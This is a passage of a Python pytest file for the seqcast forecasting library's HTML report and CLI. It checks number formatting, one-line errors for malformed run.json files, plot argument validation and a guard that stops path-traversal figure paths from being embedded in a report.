    assert html.count("<tr>") == 201  # header + 200 rows
    assert "nope.png is missing beside run.json" in html and "a.txt is not a PNG or SVG" in html


def test_figures_outside_the_run_folder_are_not_embedded(tmp_path):
    # a hand-edited run.json could name any image on disk (../x.png, /abs/x.png), and it was inlined in the report
    import base64

    secret = b"\x89PNG\r\n\x1a\n secret"
    (tmp_path / "outside.png").write_bytes(secret)
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / "ok.png").write_bytes(b"\x89PNG\r\n\x1a\n fine")
    figs = [{"file": "../outside.png"}, {"file": str(tmp_path / "outside.png")}, {"file": "ok.png"}]
    html = write_html({"figures": figs}, tmp_path / "run" / "r.html", base_dir=tmp_path / "run").read_text()
    assert base64.b64encode(secret).decode() not in html and html.count("is not inside the run folder") == 2
    assert base64.b64encode(b"\x89PNG\r\n\x1a\n fine").decode() in html


def test_bad_run_values_are_one_line(tmp_path):
    with pytest.raises(DataError, match="`leaderboard` must be a list of objects"):
        write_html({"leaderboard": "LSTM"}, tmp_path / "r.html")
    with pytest.raises(DataError, match="must be a JSON object"):
        write_html([1, 2], tmp_path / "r.html")
    assert not (tmp_path / "r.html").exists()


# ---- seqcast report ------------------------------------------------------------------------------------

runner = CliRunner()


def assert_error(result, *needles):
    assert result.exit_code == 2, (result.exit_code, result.output)
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
    assert "Traceback" not in result.output and result.stdout == ""
    for n in needles:
        assert n in lines[0], (n, lines[0])


@pytest.mark.parametrize("text, why", [('{"title": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
                                       ('{"seed": ' + "9" * 5000 + "}", "a number with more than 4300 digits")])
def test_cli_report_of_a_run_json_too_deep_or_with_a_huge_number(tmp_path, text, why):
    # was a RecursionError / ValueError traceback
    (tmp_path / "run.json").write_text(text)
    assert_error(runner.invoke(app, ["report", str(tmp_path)]), f"is not valid JSON ({why}); re-run the command that wrote it")
    assert not (tmp_path / "report.html").exists()


def test_cli_report(run_dir, tmp_path):
    r = runner.invoke(app, ["report", str(run_dir), "--out", str(tmp_path / "r.html")])
    assert r.exit_code == 0, r.output
    assert r.stdout.strip() == str(tmp_path / "r.html")
    assert parse((tmp_path / "r.html").read_text()).sections == SECTION_IDS


def test_cli_report_errors(tmp_path):
    assert_error(runner.invoke(app, ["report", str(tmp_path / "nope")]), "is not a seqcast run directory", "seqcast fit")
    assert_error(runner.invoke(app, ["report", str(tmp_path)]), "run.json missing", "--out DIR")
    (tmp_path / "run.json").write_text('{"title": "x",\n "data": }')
    assert_error(runner.invoke(app, ["report", str(tmp_path)]), "is not valid JSON", "line 2")
    (tmp_path / "run.json").write_text("[1, 2]")
    assert_error(runner.invoke(app, ["report", str(tmp_path)]), "must hold a JSON object")
    (tmp_path / "run.json").write_text(json.dumps({"coverage": {"model": "x"}}))
    assert_error(runner.invoke(app, ["report", str(tmp_path)]), "run.json", "`coverage` must be a list of objects")
    (tmp_path / "run.json").write_text("{}")
    assert_error(runner.invoke(app, ["report", str(tmp_path), "--out", str(tmp_path)]), "is a directory")
    assert not (tmp_path / "report.html").exists()


@pytest.mark.parametrize("run, needle", [
    ({"data": "x"}, "run `data` must be an object (name, n_obs, freq, ...). Received: str"),
    ({"figures": "a.png"}, "run `figures` must be a list of {title, file, caption} objects. Received: str"),
    ({"figures": ["a.png"]}, "run `figures[0]` must be an object with a `file` (a PNG or SVG beside run.json). Received: 'a.png'"),
    ({"history": [1]}, "run `history` must be an object with loss and val_loss lists. Received: list"),
    ({"config": [1]}, "run `config` must be an object of option: value. Received: list"),
    # these three were tracebacks (ValueError, TypeError: 'int' object is not iterable, ValueError)
    ({"history": {"loss": "x"}}, "`loss` must be a list of numbers, one per epoch. Received: loss='x'"),
    ({"history": {"loss": [1, 2], "val_loss": 3}}, "`val_loss` must be a list of numbers, one per epoch. Received: val_loss=3"),
    ({"history": {"loss": [1, 2], "best_epoch": "x"}}, "`best_epoch` must be an epoch number (from 1), a list of them"),
])
def test_cli_report_of_a_hand_edited_run_json_of_the_wrong_shape(tmp_path, run, needle):
    (tmp_path / "run.json").write_text(json.dumps(run))
    assert_error(runner.invoke(app, ["report", str(tmp_path)]), "run.json': ", needle)
    assert not (tmp_path / "report.html").exists()


def test_cli_report_of_a_run_json_that_is_not_utf8(tmp_path):
    (tmp_path / "run.json").write_bytes(b'{"title": "\xff"}')  # coverage: this refusal had no test
    assert_error(runner.invoke(app, ["report", str(tmp_path)]), "run.json' is not UTF-8 text; re-run the command that wrote it")
    assert not (tmp_path / "report.html").exists()


def test_report_of_a_run_whose_losses_were_not_finite(tmp_path):
    # run.json writes a NaN loss as null (runs.clean): the report ended in "TypeError: '<' not supported between
    # instances of 'int' and 'NoneType'"; the best validation loss is now the least finite one, the last loss n/a
    (tmp_path / "run.json").write_text(json.dumps({"history": {"loss": [1.5, None], "val_loss": [None, 2.5, 3.5]}}))
    r = runner.invoke(app, ["report", str(tmp_path)])
    assert r.exit_code == 0, r.output
    html = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert re.search(r"best validation loss</th><td[^>]*>2\.5<", html) and re.search(r"final training loss</th><td[^>]*>n/a<", html)


def test_plot_loss_of_numpy_losses_and_of_text(tmp_path):
    # a numpy array of losses was "ValueError: The truth value of an array ... is ambiguous"; text, a ValueError from numpy
    from seqcast.report import plot_loss

    plot_loss({"loss": np.array([1.0, 0.5]), "val_loss": [2.0, 1.0]}, tmp_path / "l.png")
    assert (tmp_path / "l.png").stat().st_size > 0
    with pytest.raises(DataError, match=r"^`loss` must be a list of numbers, one per epoch\. Received: loss='x'$"):
        plot_loss({"loss": "x"}, tmp_path / "bad.png")
    assert not (tmp_path / "bad.png").exists()


def test_leaderboard_shows_small_units_and_run_rows_keep_the_time():
    from rich.console import Console

    from seqcast import runs
    from seqcast.report import leaderboard_table

    class H:
        model_name = "GRU"
        table = [{"model": "GRU", "rmse": 3.1e-08, "mae": 2.5e-08, "mape": 6.0, "mase": 0.9}]

    con = Console(record=True, width=100)
    con.print(leaderboard_table(H()))
    assert "3.1e-08" in con.export_text()  # not 0.00
    hours = pd.date_range("2023-01-01 05:00", periods=2, freq="h")
    rows = runs.prediction_rows(list(hours), np.array([1.0, 2.0]), {"naive": np.array([0.0, 1.0])})
    assert [r["date"] for r in rows] == ["2023-01-01 05:00:00", "2023-01-01 06:00:00"]


def test_terminal_tables_write_thousands_as_the_report_does():
    # the terminal showed RMSE 17,396.3 as "1.74e+04" (.4g) while report.html showed "17,396.3"
    from rich.console import Console

    from seqcast.report import fmt_cell, leaderboard_table

    class H:
        model_name = "GRU"
        table = [{"model": "GRU", "rmse": 17396.3, "mae": 1234567.89, "mape": 6.0, "mase": 0.9},
                 {"model": "naive", "rmse": 15.39, "mae": float("nan"), "mape": 7.0, "mase": 1.0}]

    con = Console(record=True, width=100)
    con.print(leaderboard_table(H()))
    text = con.export_text()
    assert "17,396.3" in text and "1,234,567.9" in text and "15.39" in text and "n/a" in text and "e+0" not in text
    assert (fmt_cell(17396.3), fmt_cell(0.002107), fmt_cell(-20000.0)) == ("17,396.3", "0.002107", "-20,000.0")


def test_huge_numbers_keep_four_significant_digits():
    # data in units of 1e100 printed RMSE 8,241,926,065,970,055,776,672,...,216.0: 102 digits, the last 86 noise
    from seqcast.report import fmt_cell, fmt_column, fmt_num

    assert [fmt_cell(v) for v in (8.241926e101, -1.6931967e38, 1e15, 999_999_999_999_999.0, 123456.789)] == \
        ["8.242e+101", "-1.693e+38", "1e+15", "999,999,999,999,999.0", "123,456.8"]
    assert (fmt_num(8.241926e101), fmt_column("rmse", 1.6931967e38), fmt_num(1.28e148)) == ("8.242e+101", "1.693e+38", "1.280e+148")
    text = _leaderboard_text([{"model": "GRU", "rmse": 8.241926e101, "mae": 6.46e101, "mape": 14.0, "mase": 2.2}])
    assert "8.242e+101" in text and "6.460e+101" in text and "…" not in text


def _leaderboard_text(table: list) -> str:
    """The terminal's holdout leaderboard of `table` (rows of model, rmse, mae, mape, mase), as text."""
    from types import SimpleNamespace

    from rich.console import Console

    from seqcast.report import leaderboard_table

    con = Console(record=True, width=100)
    con.print(leaderboard_table(SimpleNamespace(model_name="GRU", table=table)))
    return con.export_text()


def test_terminal_table_columns_keep_trailing_zeros():
    # backtest's RMSE column read 27.2 beside 31.48 and 41.98 (.4g drops the zero), as if less precise
    from seqcast.report import fmt_num

    assert [fmt_num(v) for v in (27.2, 31.476, 0.5, 100.0, 0.0, 17396.3, 2e-5, float("nan"))] == \
        ["27.20", "31.48", "0.5000", "100.0", "0.000", "17,396.3", "2e-05", "n/a"]
    text = _leaderboard_text([{"model": "GRU", "rmse": 27.2, "mae": 20.0, "mape": 6.0, "mase": 0.9}])
    assert "27.20" in text and "20.00" in text


def test_a_relative_difference_above_1000_percent_is_not_spelled_out():
    # exact linear data: "RMSE 32.36 vs 2.44e-06, 1326131869% higher" (the two scores already tell it)
    from seqcast.report import fmt_pct

    assert [fmt_pct(x) for x in (0.25, -0.004, 0.0004, 9.994, 10.0, 10.01, 13261318.69)] == \
        ["25%", "0.4%", "<0.1%", "999%", "1000%", ">1000%", ">1000%"]


def test_scores_too_small_or_large_for_their_decimals_keep_three_significant_digits():
    """After a huge outlier in the training part every model's MASE (1.5e-05, 5.4e-05) read "0.000", and a pure
    sine's rounding-size MASE scale gave "371309001925058.375"; a real 0 and ordinary scores read as before."""
    from rich.console import Console

    from seqcast.report import fmt_score, leaderboard_table

    assert [fmt_score(v) for v in (1.508, 0.0, 1.51e-05, 8.4e-06, -2e-4, 0.0005, 3.71309e14, 999999.0, float("nan"))] == \
        ["1.508", "0.000", "1.51e-05", "8.40e-06", "-0.000200", "0.001", "3.71e+14", "999999.000", "nan"]
    assert (fmt_score(3.4e-07, 2), fmt_score(12.345, 2)) == ("3.40e-07", "12.35")  # a MAPE % at 1e8

    class H:
        model_name = "GRU"
        table = [{"model": "GRU", "rmse": 0.36, "mae": 0.31, "mape": 3.15, "mase": 1.47e-05},
                 {"model": "naive", "rmse": 0.0, "mae": 0.0, "mape": 0.0, "mase": 0.0}]

    con = Console(record=True, width=100)
    con.print(leaderboard_table(H()))
    text = con.export_text()
    assert "1.47e-05" in text and "0.000 │" in text
    from seqcast.runs import _panel_title  # the backtest report's series panels

    assert (_panel_title("a", "gru", {"a": 1.5e-05}), _panel_title("b", "gru", {"b": 0.914})) == ("a (gru, MASE 1.50e-05)", "b (gru, MASE 0.91)")


def test_a_hand_edited_verdict_or_text_that_is_not_unicode_is_handled(tmp_path):
    """Bug: run.json's "verdict": 3 crashed `seqcast report` with a TypeError traceback (exit 1), and a lone
    surrogate escape ("\\ud800", valid JSON) with a UnicodeEncodeError traceback."""
    (tmp_path / "run.json").write_text(json.dumps({"title": "x", "verdict": 3}))
    assert_error(runner.invoke(app, ["report", str(tmp_path)]), "run.json", "`verdict` must be a text or a list of texts")
    assert not (tmp_path / "report.html").exists()
    (tmp_path / "run.json").write_text('{"title": "t\\ud800", "verdict": ["ok"]}')
    r = runner.invoke(app, ["report", str(tmp_path)])
    assert r.exit_code == 0, (r.output, r.exception)
    assert "<title>t?</title>" in (tmp_path / "report.html").read_text(encoding="utf-8")


def test_a_file_name_that_is_not_utf8_is_drawn_and_reported(tmp_path):
    """Bug: a data file named in Latin-1 on a UTF-8 system (b'Z\\xfcrich.csv', unzipped from Windows), or any non-ASCII
    name under LC_ALL=C PYTHONUTF8=0, reaches Python as 'Z\\udcfcrich.csv' (surrogate escapes): `seqcast fit` drew it
    in a figure title and ended in a matplotlib TypeError traceback (exit 1, no model saved)."""
    try:
        name = os.fsdecode(b"Z\xfcrich.csv")
        (tmp_path / name).write_text("date,y\n" + "".join(f"{d:%Y-%m-%d},{v}\n" for d, v in monthly(48).items()))
    except (OSError, UnicodeError):
        pytest.skip("this file system refuses names that are not UTF-8")
    fast = ["--units", "4", "--window", "6", "--epochs", "2", "--batch-size", "16", "-q"]
    r = runner.invoke(app, ["fit", str(tmp_path / name), "--out", str(tmp_path / "m"), "--model", "gru", *fast])
    assert r.exit_code == 0, (r.output, r.exception)
    assert "Z\ufffdrich.csv" in (tmp_path / "m" / "report.html").read_text(encoding="utf-8")
    assert report._plain("Z\udcc3\udcbcrich") == "Z\u00fcrich"  # a UTF-8 name read under LC_ALL=C: its bytes are UTF-8


def _tiny_plots():
    s = pd.Series(np.sin(np.arange(40) / 3), index=pd.date_range("2020", periods=40, freq="D"), name="y")
    frame = pd.DataFrame({"date": s.index[:10], "truth": s.values[:10], "m": s.values[:10] + 0.1})
    return {
        "plot_forecast": lambda p, **kw: report.plot_forecast(kw.pop("series", s), p, **kw),
        "plot_multistep_forecasts": lambda p, **kw: report.plot_multistep_forecasts(
            kw.pop("inputs", np.zeros((3, 5))), kw.pop("truth", np.ones((3, 2))), np.ones((3, 2)), p, **kw),
        "plot_loss": lambda p, **kw: report.plot_loss(History(loss=[1.0, 0.5]), p, **kw),
        "plot_errors_by_step": lambda p, **kw: report.plot_errors_by_step(kw.pop("per_step", {"m": [1.0, 0.9]}), p, **kw),
        "plot_series_grid": lambda p, **kw: report.plot_series_grid(kw.pop("items", [{"history": s, "forecast": [1.0, 2]}]), p, **kw),
        "predictions_vs_truth": lambda p, **kw: report.predictions_vs_truth(kw.pop("frame", frame), p, **kw),
    }


@pytest.mark.parametrize("plot", list(_tiny_plots()))
@pytest.mark.parametrize("path, message", [
    ("", r"^`path` must be a file path"),  # OSError: Device or resource busy: '..x.tmp' -> '.'
    ("adir", r"is a directory; give a file path"),  # IsADirectoryError naming the temp file, after drawing
    ("plot.xyz", r"^`path` must end in \.png, \.svg or \.pdf \(the figure's format\)\. Received: path='.*plot\.xyz'$"),
    ("afile/x.png", r"is a file, so '.*x\.png' cannot be created"),  # FileExistsError
])
def test_plot_paths_of_the_wrong_kind_are_one_config_error(tmp_path, plot, path, message):
    (tmp_path / "adir").mkdir()
    (tmp_path / "afile").write_text("keep")
    with pytest.raises(ConfigError, match=message):
        _tiny_plots()[plot](path if path in (None, "") else tmp_path / path)
    assert (tmp_path / "afile").read_text() == "keep" and sorted(p.name for p in tmp_path.iterdir()) == ["adir", "afile"]


@pytest.mark.parametrize("plot", list(_tiny_plots()))
def test_every_plot_returns_its_figure_and_without_a_path_writes_nothing(tmp_path, monkeypatch, plot):
    # a notebook could not show a plot: every plot_* needed a file path and returned None
    from matplotlib.figure import Figure

    monkeypatch.chdir(tmp_path)
    fig = _tiny_plots()[plot](None)
    assert isinstance(fig, Figure) and fig.axes and list(tmp_path.iterdir()) == []
    assert isinstance(_tiny_plots()[plot](tmp_path / "p.png"), Figure) and (tmp_path / "p.png").stat().st_size > 0
    # IPython displays it by its _repr_png_: Jupyter's inline formatter for Figures is only set up once pyplot loads
    # its backend, and a notebook that had drawn nothing with pyplot showed '<Figure size 880x396 with 1 Axes>'
    assert fig._repr_png_().startswith(PNG) and [p.name for p in tmp_path.iterdir()] == ["p.png"]
    assert pickle.loads(pickle.dumps(fig)).axes  # a Figure still pickles


@pytest.mark.parametrize("plot, kw, message", [
    ("plot_forecast", {"series": [1.0, 2.0]}, r"^`series` must be a pandas Series"),  # AttributeError
    ("plot_forecast", {"title": np.zeros((2, 2))}, r"^`title` must be text \(a str\) or None"),  # ambiguous truth value
    ("plot_forecast", {"bands": 3}, r"^`bands` must be a dict"),
    ("plot_forecast", {"holdout": "abc"}, r"^`holdout` must be a seqcast Holdout"),
    ("plot_multistep_forecasts", {"n": 2.5}, r"^`n` must be an integer >= 1\. Received: n=2\.5$"),  # matplotlib ValueError
    ("plot_multistep_forecasts", {"n": True}, r"^`n` must be an integer >= 1\. Received: n=True$"),  # drew 1 series
    ("plot_multistep_forecasts", {"inputs": None}, r"^`inputs` must be \(B, T\) or \(B, T, 1\)"),  # len() of unsized object
    ("plot_multistep_forecasts", {"truth": [1.0]}, r"^`inputs` must be .*Received: shapes \(3, 5\), \(1,\), \(3, 2\)$"),
    ("plot_multistep_forecasts", {"inputs": "abc"}, r"^`inputs` must be an array of numbers only"),
    ("plot_multistep_forecasts", {"truth": np.ones((3, 5, 2))},  # Hands-On ML's seq-to-seq Y_valid
     r"^`inputs` must be .*Received: shapes \(3, 5\), \(3, 5, 2\), \(3, 2\); seq-to-seq outputs \(B, T, k\): pass their last step, Y\[:, -1\]$"),
    ("plot_errors_by_step", {"per_step": [1.0]}, r"^`per_step` must be a dict"),
    ("plot_errors_by_step", {"metric": None}, r"^`metric` must be text such as 'MASE'\. Received: metric=None$"),
    ("plot_errors_by_step", {"per_step": {"m": "abc"}}, r"^`per_step\['m'\]` must be an array of numbers only"),
    ("plot_series_grid", {"items": 3}, r"^`items` must be a list of dicts"),
    ("plot_series_grid", {"items": [1]}, r"^`items\[0\]` must be a dict with at least history and forecast"),
    # coverage: these three had no test
    ("plot_forecast", {"forecast": pd.DataFrame({"date": pd.date_range("2020-02-10", periods=2), "forecast": [1.0, 2.0]}),
                       "bands": {80: (1, 2, 3)}}, r"^`bands` must map a level \(a number such as 80\) to a \(lo, hi\) pair\. Received: 80: \(1, 2, 3\)$"),
    ("plot_series_grid", {"items": []}, r"^`items` is empty: pass at least one series to plot$"),
    ("plot_series_grid", {"items": [{"history": [1.0, 2.0], "forecast": [1.0, 2.0], "dates": [5]}]},
     r"^grid item 0 \(''\): `dates` has 1 values, `forecast` 2$"),
    ("predictions_vs_truth", {"frame": None}, r"^`frame` must be a DataFrame with columns date, truth"),
])
def test_plot_arguments_of_the_wrong_kind_are_one_seqcast_error(tmp_path, plot, kw, message):
    with pytest.raises(SeqcastError, match=message):
        _tiny_plots()[plot](tmp_path / "p.png", **kw)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("call, message", [
    (lambda d: report.write_html({}, None), r"^`path` must be a path \(a str or pathlib\.Path\)\. Received: path=None$"),
    (lambda d: report.write_html({}, d), r"is a directory; give a file path"),  # IsADirectoryError
    (lambda d: report.write_html({}, d / "r.html", base_dir=3), r"^`base_dir` must be a path"),
    (lambda d: report.write_report(None), r"^`run_dir` must be a path \(a str or pathlib\.Path\)\. Received: run_dir=None$"),
    (lambda d: report.write_report(d, out=3), r"^`out` must be a path \(a str or pathlib\.Path\)\. Received: out=3$"),
])
def test_report_paths_of_the_wrong_kind_are_one_config_error(tmp_path, call, message):
    (tmp_path / "run.json").write_text("{}")
    with pytest.raises(ConfigError, match=message):
        call(tmp_path)


def test_a_forecast_plot_names_its_values_on_the_y_axis():
    # the y axis had no label: what the numbers were (passengers, units) was in the title at best
    s = pd.Series([1.0, 2.0, 3.0], index=pd.date_range("2000-01-01", periods=3, freq="MS"), name="units sold $")
    assert report.plot_forecast(s).axes[0].get_ylabel() == r"units sold \$"  # drawn literally, not as mathtext
    assert report.plot_forecast(s.rename(None)).axes[0].get_ylabel() == ""


def test_drawing_silences_warnings_one_thread_at_a_time_with_data(monkeypatch):
    # _fig_bytes' own catch_warnings, in one thread while another loaded data (data._quiet), left 'ignore' for every
    # warning behind in the process-wide filters (a service drawing and forecasting in threads)
    import threading

    from seqcast import data

    fig, ax = report._subplots(figsize=(2, 2))
    ax.plot([1, 2])
    free = []

    def savefig(*a, **kw):  # while drawing: can another thread enter data's silenced block?
        t = threading.Thread(target=lambda: free.append(data._QUIET_LOCK.acquire(blocking=False)))
        t.start()
        t.join()

    monkeypatch.setattr(fig, "savefig", savefig)
    report._fig_bytes(fig)
    assert free == [False]


def test_drawing_in_threads_keeps_the_users_rc_params():
    # a user with text.usetex True drawing seqcast figures in 2 threads (300 figures) found it False after: each figure's
    # rc_context saved and restored the process-wide rcParams, and two at once restored each other's
    import threading

    import matplotlib

    from seqcast import data

    seen = []

    def drawing():  # while drawing: can another thread enter a drawing's rc_context?
        t = threading.Thread(target=lambda: seen.append(data._QUIET_LOCK.acquire(blocking=False)))
        t.start()
        t.join()
        seen.append(matplotlib.rcParams["text.usetex"])

    with matplotlib.rc_context({"text.usetex": True}):
        report._drawn(drawing)()
        assert seen == [False, False] and matplotlib.rcParams["text.usetex"]  # seqcast's setting inside, the user's after


def test_report_tables_write_scores_as_the_verdict_and_columns_keep_their_decimals(tmp_path):
    # the leaderboard read MASE 0.9781 under a verdict "MASE 0.978 vs 1.025" (and the terminal's 0.978), RMSE 12
    # beside 2.756, MAE 12.8 beside 42.96, fit s 0.013 beside 17.07: 4 significant digits with trailing zeros dropped
    rows = [{"model": "gru", "mase": 0.97814, "rmse": 2.756, "mae": 42.96, "mape": 2.0123, "fit_s": 17.07, "coverage_80": 80.22,
             "coverage_n_80": 1800},
            {"model": "naive", "mase": 1.0, "rmse": 12.0, "mae": 12.8, "mape": 1.5, "fit_s": 0.013, "coverage_80": None, "coverage_n_80": 0}]
    pred = [{"date": "2000-01-01", "truth": 112.0, "gru": 96.28}, {"date": "2000-02-01", "truth": 118.5, "gru": 100.0}]
    cov = [{"model": "gru", "level": "80", "nominal": 80.0, "empirical": 80.22}]
    html = write_html({"leaderboard": rows, "predictions": pred, "coverage": cov}, tmp_path / "r.html").read_text()
    rows = [re.findall(r"<td class=num>([^<]*)</td>", c) for c in re.findall(r"<tr[^>]*>(.*?)</tr>", html) if "<td" in c]
    assert rows[:2] == [["0.978", "2.756", "42.96", "2.01", "17.1", "80.2", "1800"], ["1.000", "12.00", "12.80", "1.50", "0.0", "n/a", "0"]]
    assert rows[2:4] == [["112.0", "96.28"], ["118.5", "100.0"]]  # the predictions
    assert re.search(r"<td>gru</td><td>80</td><td class=num>80\.0</td><td class=num>80\.2</td>", html)


def test_plots_tell_truth_from_forecast_without_colour_and_mark_the_test_start(monkeypatch):
    # predictions_vs_truth drew the truth under every model (a long test period hid it); the grid's truth and forecast
    # were two solid lines, green and red (one grey to a colour-blind reader); plot_forecast's dotted line at the
    # test start was in no legend
    figs = _figures(monkeypatch)
    s = monthly(48)
    frame = pd.DataFrame({"date": s.index[-12:], "truth": s.iloc[-12:].to_numpy(), "gru": s.iloc[-12:].to_numpy() + 1.0,
                          "naive": s.iloc[-13:-1].to_numpy()})
    predictions_vs_truth(frame, "p.png")
    truth, *models = figs[0].axes[0].get_lines()
    assert truth.get_label() == "truth" and all(truth.get_zorder() > m.get_zorder() for m in models)
    plot_series_grid([{"title": "a", "history": s, "truth": np.arange(4.0), "forecast": np.arange(4.0) + 1}], "g.png")
    lines = {ln.get_label(): ln for ln in figs[1].axes[0].get_lines()}
    t, f = lines["truth"], lines["forecast"]
    assert (t.get_marker(), t.get_linestyle()) != (f.get_marker(), f.get_linestyle())
    preds = {"gru": s.iloc[-12:].to_numpy()}
    plot_forecast(s, "f.png", holdout=SimpleNamespace(model_name="gru", predictions=preds, dates=s.index[-12:]))
    legend = [t.get_text() for t in figs[2].axes[0].get_legend().get_texts()]
    assert "test period starts" in legend


def test_the_data_section_names_backtest_keys_and_the_frequency_in_words(tmp_path):
    # a backtest's data table read "length_min", "length_max", "windows", "step" and "frequency MS"
    data = {"name": "panel.csv", "n_series": 3, "length_min": 60, "length_max": 72, "freq": "MS", "horizon": 6, "windows": 2,
            "step": 6, "season": 12, "region": "north"}
    html = write_html({"data": data}, tmp_path / "r.html").read_text()
    kv = dict(re.findall(r"<tr><th>([^<]*)</th><td>([^<]*)</td></tr>", html))
    assert kv["frequency"] == "MS (monthly)" and kv["shortest series (values)"] == "60" and kv["origins (--windows)"] == "2"
    assert kv["steps between origins"] == "6" and kv["season length"] == "12" and kv["region"] == "north"  # others as they are
    assert not any(k in kv for k in ("length_min", "windows", "step", "freq"))
    assert [report._freq_text(f) for f in ("QS-JAN", "W-SUN", "YE-DEC", "h", "2D", "ms", None)] == \
        ["QS-JAN (quarterly)", "W-SUN (weekly)", "YE-DEC (yearly)", "h (hourly)", "2D", "ms (milliseconds)", None]
    assert [report._freq_text(f) for f in ("min", "s", "BME", "BQS-JAN", "SMS-15", "bh", "D", "B", "ME", "15min", "BW", "SMQ")] == \
        ["min (every minute)", "s (every second)", "BME (monthly, business days)", "BQS-JAN (quarterly, business days)",
         "SMS-15 (semi-monthly)", "bh (business hours)", "D (daily)", "B (business days)", "ME (monthly)", "15min", "BW", "SMQ"]


def test_ratio_clause_keeps_three_significant_digits_for_huge_ratios():
    """A pure sine where the seasonal naive is exact to rounding (RMSE 1e-13): fit's verdict read "95% interval of the
    RMSE ratio 73320174480199.781-118292084062280.141"; ordinary ratios read as before."""
    from seqcast.report import ratio_clause

    assert ratio_clause("RMSE", 7.33201744801997e13, 1.1829208406228e14, "12 blocks of 3 test points", "worse") == \
        "; 95% interval of the RMSE ratio 7.33e+13-1.18e+14 over 12 blocks of 3 test points: clearly worse"
    assert ratio_clause("MASE", 0.8123, 0.9684, "24 origins", "better") == \
        "; 95% interval of the MASE ratio 0.812-0.968 over 24 origins: clearly better"


def test_the_warnings_a_fit_said_are_a_box_above_the_sections_escaped(tmp_path):
    """run.json's warnings (a GRU whose cells saturate on values far beyond 1: forecasts flat) were printed once by the
    command and never shown in report.html: now one alert box above the sections, a paragraph each, the text escaped;
    none for [] or a run.json without the key (older runs); a hand-edited non-list is one line, not a traceback."""
    run = make_run(tmp_path / "run")
    html = write_report(tmp_path / "run").read_text(encoding="utf-8")
    box = re.search(r'<div class="warning" id="fit-warnings" role="alert">(.*?)</div>', html).group(1)
    assert box == ("<p><strong>Warning:</strong> GRU inputs reach 5.05e+11 on values as they are (scaler=&#x27;none&#x27;): its cells "
                   "&lt;saturate&gt; &amp; the forecasts go flat</p>")
    assert html.index('id="fit-warnings"') < html.index('<section id="data">') and parse(html).sections == SECTION_IDS
    two = write_html({"warnings": ["a", "b"]}, tmp_path / "two.html").read_text()
    assert two.count("<strong>Warning:</strong>") == 2 and "nothing to show" in two
    for none in ({"warnings": []}, {}):
        assert "fit-warnings" not in write_html({**none, "seed": 1}, tmp_path / "r.html").read_text()
    (tmp_path / "run.json").write_text(json.dumps({**run, "warnings": "saturate"}))
    assert_error(runner.invoke(app, ["report", str(tmp_path)]), "run.json", "`warnings` must be a list of texts. Received: str 'saturate'")


def test_a_dict_cell_shows_korean_text_as_text():
    """A dict in a report table showed a Korean key as {"\\uc11c\\uc6b8": ...}: as {"서울": ...}."""
    from seqcast.report import fmt_cell

    assert fmt_cell({"서울": "none", "부산": 1}) == '{"서울": "none", "부산": 1}'
